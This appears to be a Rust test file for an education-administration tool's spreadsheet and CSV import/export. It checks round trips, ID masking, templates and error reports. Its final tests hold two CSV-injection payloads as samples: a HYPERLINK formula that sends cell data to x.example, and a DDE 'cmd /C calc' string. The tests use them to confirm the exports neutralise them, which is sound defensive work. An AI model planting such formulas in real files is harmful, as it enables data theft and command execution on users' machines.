//! Files edugov writes: exports (and importing them back), templates and
//! error reports.

use std::io::Read;

use calamine::{Data, Reader};
use expect_test::expect;
use import_export::{Entity, Format, PersonalData, RowError};

use crate::support::*;

/// Exports every entity of the fixture, imports them into an empty store
/// and exports again: the two exports must be identical.
fn round_trip(format: Format, extension: &str) {
    let (source, dir) = loaded_store();
    let mut target = store();
    for entity in Entity::ALL {
        let path = dir.path().join(format!("{}-导出.{extension}", entity.label_zh()));
        import_export::export(&*source, *entity, None, format, &path, PersonalData::Clear).unwrap();
        let outcome = import(&mut target, &path);
        assert_eq!(errors(&outcome), "", "{entity}");
    }
    assert_eq!(snapshot(&target), snapshot(&source));
}

#[test]
fn an_xlsx_export_imports_back_unchanged() {
    round_trip(Format::Xlsx, "xlsx");
}

#[test]
fn a_csv_export_imports_back_unchanged() {
    round_trip(Format::Csv, "csv");
}

#[test]
fn a_masked_export_hides_personal_data_and_cannot_be_imported() {
    let (mut store, dir) = loaded_store();
    let path = dir.path().join("学生.csv");
    let rows = import_export::export(
        &*store,
        Entity::Students,
        None,
        Format::Csv,
        &path,
        PersonalData::Masked,
    )
    .unwrap();
    assert_eq!(rows, 4);
    let bytes = std::fs::read(&path).unwrap();
    assert!(
        bytes.starts_with("\u{feff}".as_bytes()),
        "CSV exports carry a BOM for Excel"
    );
    let text = String::from_utf8(bytes).unwrap();
    let first = text.lines().nth(1).unwrap();
    assert_eq!(
        first,
        "2024,3737010001,小学,一年级,1班,370102********0118,张*明,男,2018-03-01,370102001,否,是,5,否"
    );

    let before = snapshot(&store);
    let outcome = import(&mut store, &path);
    expect![[r#"
        学生.csv 第 2 行【身份证号】身份证号已脱敏，无法导入；请使用未脱敏的导出文件
        学生.csv 第 3 行【身份证号】身份证号已脱敏，无法导入；请使用未脱敏的导出文件
        学生.csv 第 4 行【身份证号】身份证号已脱敏，无法导入；请使用未脱敏的导出文件
        学生.csv 第 5 行【身份证号】身份证号已脱敏，无法导入；请使用未脱敏的导出文件
    "#]]
    .assert_eq(&errors(&outcome));
    assert_eq!(snapshot(&store), before);
}

#[test]
fn an_xlsx_export_has_a_bold_frozen_header_and_numbers_as_numbers() {
    let (store, dir) = loaded_store();
    let path = dir.path().join("班级.xlsx");
    import_export::export(
        &*store,
        Entity::Classes,
        None,
        Format::Xlsx,
        &path,
        PersonalData::Masked,
    )
    .unwrap();
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&path).unwrap();
    assert_eq!(book.sheet_names(), ["班级"]);
    let range = book.worksheet_range("班级").unwrap();
    let row: Vec<&Data> = range.rows().nth(1).unwrap().iter().collect();
    assert_eq!(row[1], &Data::String("3737010001".into()), "codes stay text");
    assert_eq!(row[5], &Data::Float(2.0), "class size is a number");
    let sheet = sheet_xml(&path, "xl/worksheets/sheet1.xml");
    assert!(
        sheet.contains(r#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#),
        "{sheet}"
    );
}

#[test]
fn a_template_has_the_headers_notes_drop_downs_and_instructions() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("学生-模板.xlsx");
    import_export::write_template(Entity::Students, &path).unwrap();

    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&path).unwrap();
    assert_eq!(book.sheet_names(), ["学生", "填写说明"]);
    let range = book.worksheet_range("学生").unwrap();
    let headers: Vec<String> = range
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(
        headers.join(","),
        "学年,学校标识码,学段,年级,班级,身份证号,姓名,性别,出生日期,户籍地代码,是否随迁子女,是否寄宿,视力,是否近视"
    );
    let guide = book.worksheet_range("填写说明").unwrap();
    let id_row: Vec<String> = guide
        .rows()
        .nth(6)
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(id_row[0], "身份证号");
    assert_eq!(id_row[1], "必填");

    // calamine does not read validations or notes: look at the sheet XML.
    let sheet = sheet_xml(&path, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains(r#"<dataValidation type="list""#), "{sheet}");
    assert!(sheet.contains("<formula1>\"男,女\"</formula1>"), "{sheet}");
    assert!(sheet.contains("<formula1>\"小班,中班,大班,一年级,二年级,三年级,四年级,五年级,六年级,七年级,八年级,九年级,高一,高二,高三\"</formula1>"));
    assert!(sheet.contains(r#"state="frozen""#));
    let notes = sheet_xml(&path, "xl/comments1.xml");
    assert!(notes.contains("【必填】18 位居民身份证号"), "{notes}");

    // An empty template is a valid (if empty) import.
    let mut store = store();
    let outcome = import(&mut store, &path);
    assert_eq!((outcome.rows, outcome.errors.len()), (0, 0));
}

#[test]
fn every_entity_has_a_template_that_imports_as_itself() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = store();
    for entity in Entity::ALL {
        let path = dir.path().join(format!("{}.xlsx", entity.code()));
        import_export::write_template(*entity, &path).unwrap();
        let outcome = import(&mut store, &path);
        assert_eq!(
            outcome.tables.iter().map(|t| t.entity).collect::<Vec<_>>(),
            [*entity]
        );
    }
}

#[test]
fn error_reports_are_written_as_csv_with_bom_and_as_xlsx() {
    let (mut store, dir) = loaded_store();
    let bad = students_csv().replace("张小明", "");
    let outcome = import(&mut store, &write(dir.path(), "学生.csv", &bad));
    let mut errors: Vec<RowError> = outcome.errors.clone();
    errors.push(RowError {
        file: "学生.csv".into(),
        sheet: None,
        row: 9,
        column: Some("身份证号".into()),
        value: registry::mask::id_number("37010220180301011X"),
        message: "示例".into(),
    });

    let csv_path = dir.path().join("错误.csv");
    import_export::write_errors(&errors, &csv_path).unwrap();
    expect![[r#"
        ﻿文件,工作表,行号,列,值,问题
        学生.csv,,2,姓名,,不能为空
        学生.csv,,9,身份证号,370102********011X,示例
    "#]]
    .assert_eq(&std::fs::read_to_string(&csv_path).unwrap());

    let xlsx_path = dir.path().join("错误.xlsx");
    import_export::write_errors(&errors, &xlsx_path).unwrap();
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&xlsx_path).unwrap();
    let range = book.worksheet_range("错误").unwrap();
    let rows: Vec<String> = range
        .rows()
        .map(|r| r.iter().map(|c| c.to_string()).collect::<Vec<_>>().join("|"))
        .collect();
    assert_eq!(
        rows,
        [
            "文件|工作表|行号|列|值|问题",
            "学生.csv||2|姓名||不能为空",
            "学生.csv||9|身份证号|370102********011X|示例"
        ]
    );
}

/// The 1-based columns of a workbook's first sheet whose default format is
/// text (`@`), read from its `<cols>` and the styles they point at.
fn text_columns(path: &std::path::Path) -> Vec<u32> {
    let styles = sheet_xml(path, "xl/styles.xml");
    let attr = |tag: &str, name: &str| -> Option<String> {
        let start = tag.find(&format!(" {name}=\""))? + name.len() + 3;
        Some(tag[start..].split('"').next()?.to_owned())
    };
    // numFmt 49 is Excel's built-in "@"; custom ones are declared.
    let mut text_formats = vec!["49".to_owned()];
    for tag in styles.split("<numFmt ").skip(1) {
        if attr(&format!(" {tag}"), "formatCode").as_deref() == Some("@") {
            text_formats.extend(attr(&format!(" {tag}"), "numFmtId"));
        }
    }
    let cell_xfs = styles
        .split("<cellXfs")
        .nth(1)
        .unwrap()
        .split("</cellXfs>")
        .next()
        .unwrap();
    let text_styles: Vec<String> = cell_xfs
        .split("<xf ")
        .skip(1)
        .enumerate()
        .filter(|(_, xf)| attr(&format!(" {xf}"), "numFmtId").is_some_and(|id| text_formats.contains(&id)))
        .map(|(i, _)| i.to_string())
        .collect();
    let sheet = sheet_xml(path, "xl/worksheets/sheet1.xml");
    let mut out = Vec::new();
    for col in sheet.split("<col ").skip(1) {
        let col = format!(" {}", col.split('>').next().unwrap());
        if attr(&col, "style").is_some_and(|s| text_styles.contains(&s)) {
            let min: u32 = attr(&col, "min").unwrap().parse().unwrap();
            let max: u32 = attr(&col, "max").unwrap().parse().unwrap();
            out.extend(min..=max);
        }
    }
    out
}

/// The columns of codes and text, among them 身份证号, 学校标识码, the area
/// codes and 班级, as 1-based positions in `entity`'s columns.
fn code_and_text_columns(entity: Entity) -> Vec<u32> {
    (1u32..)
        .zip(entity.columns())
        .filter(|(_, c)| {
            matches!(
                c.field.spec().kind,
                import_export::Kind::Code | import_export::Kind::Text
            )
        })
        .map(|(i, _)| i)
        .collect()
}

/// Excel turns 370102201001011234 typed into a General cell into
/// 3.70102E+17 and drops a code's leading zeros: every template's code and
/// text columns are formatted as text, and no other column is.
#[test]
fn every_template_formats_identity_numbers_codes_and_class_names_as_text() {
    let dir = tempfile::tempdir().unwrap();
    for entity in Entity::ALL {
        let path = dir.path().join(format!("{}.xlsx", entity.code()));
        import_export::write_template(*entity, &path).unwrap();
        assert_eq!(text_columns(&path), code_and_text_columns(*entity), "{entity}");
    }
    // The students template, by name: 学年, 学校标识码, 班级, 身份证号, 姓名, 户籍地代码.
    assert_eq!(code_and_text_columns(Entity::Students), [1, 2, 5, 6, 7, 10]);
    let headers: Vec<&str> = Entity::Students
        .columns()
        .iter()
        .map(|c| c.field.header())
        .collect();
    assert_eq!(
        [1, 2, 5, 6, 10].map(|i| headers[i - 1]),
        ["学年", "学校标识码", "班级", "身份证号", "户籍地代码"]
    );
    // 县区 and 街道乡镇 codes of the schools template.
    let schools: Vec<&str> = code_and_text_columns(Entity::Schools)
        .iter()
        .map(|i| Entity::Schools.columns()[*i as usize - 1].field.header())
        .collect();
    assert!(schools.contains(&"学校标识码"), "{schools:?}");
    assert_eq!(schools.len(), 5, "{schools:?}");
}

/// An officer adds a pupil to an exported students file and imports it
/// again: the export's code columns are text as in the template.
#[test]
fn an_xlsx_export_formats_its_code_columns_as_text() {
    let (store, dir) = loaded_store();
    let path = dir.path().join("学生.xlsx");
    import_export::export(
        &*store,
        Entity::Students,
        None,
        Format::Xlsx,
        &path,
        PersonalData::Clear,
    )
    .unwrap();
    assert_eq!(text_columns(&path), code_and_text_columns(Entity::Students));
}

fn sheet_xml(path: &std::path::Path, member: &str) -> String {
    let file = std::fs::File::open(path).unwrap();
    let mut archive = zip::ZipArchive::new(file).unwrap();
    let mut text = String::new();
    archive
        .by_name(member)
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    text
}

/// What an attacker would type as a name: Excel runs it as a formula when a
/// CSV cell starts with `=` (OWASP: CSV injection).
const FORMULA: &str = r#"=HYPERLINK("http://x.example/?"&A1,"y")"#;

/// `text` as one CSV field.
fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// Every field of a CSV file (after its BOM).
fn csv_fields(path: &std::path::Path) -> Vec<String> {
    let text = std::fs::read_to_string(path).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

#[test]
fn a_formula_like_name_is_neutralised_in_a_csv_export_and_stays_text_in_an_xlsx_export() {
    let (mut store, dir) = loaded_store();
    let students = students_csv().replace("张小明", &quoted(FORMULA));
    import_clean(&mut store, &write(dir.path(), "学生.csv", &students));

    let csv_path = dir.path().join("学生-导出.csv");
    import_export::export(
        &*store,
        Entity::Students,
        None,
        Format::Csv,
        &csv_path,
        PersonalData::Clear,
    )
    .unwrap();
    let fields = csv_fields(&csv_path);
    assert!(fields.contains(&format!("'{FORMULA}")), "{fields:?}");
    let risky = ['=', '+', '-', '@', '\t', '\r'];
    assert!(
        fields
            .iter()
            .all(|f| !f.starts_with(risky) || f.parse::<f64>().is_ok()),
        "{fields:?}"
    );

    let xlsx_path = dir.path().join("学生-导出.xlsx");
    import_export::export(
        &*store,
        Entity::Students,
        None,
        Format::Xlsx,
        &xlsx_path,
        PersonalData::Clear,
    )
    .unwrap();
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&xlsx_path).unwrap();
    let range = book.worksheet_range("学生").unwrap();
    assert!(
        range.rows().any(|r| r.contains(&Data::String(FORMULA.into()))),
        "the name is a string cell, as typed"
    );
    assert!(
        !sheet_xml(&xlsx_path, "xl/worksheets/sheet1.xml").contains("<f>"),
        "no formula cell"
    );
}

#[test]
fn a_formula_like_value_is_neutralised_in_the_csv_error_report() {
    let (mut store, dir) = loaded_store();
    let sex = "@SUM(1+1)*cmd|' /C calc'!A0";
    let students = students_csv().replacen(",男,", &format!(",{},", quoted(sex)), 1);
    let outcome = import(&mut store, &write(dir.path(), "学生.csv", &students));
    assert!(
        outcome.errors.iter().any(|e| e.value == sex),
        "{}",
        errors(&outcome)
    );
    let report = dir.path().join("错误.csv");
    import_export::write_errors(&outcome.errors, &report).unwrap();
    let fields = csv_fields(&report);
    assert!(fields.contains(&format!("'{sex}")), "{fields:?}");
    assert!(!fields.iter().any(|f| f.starts_with('@')), "{fields:?}");
}
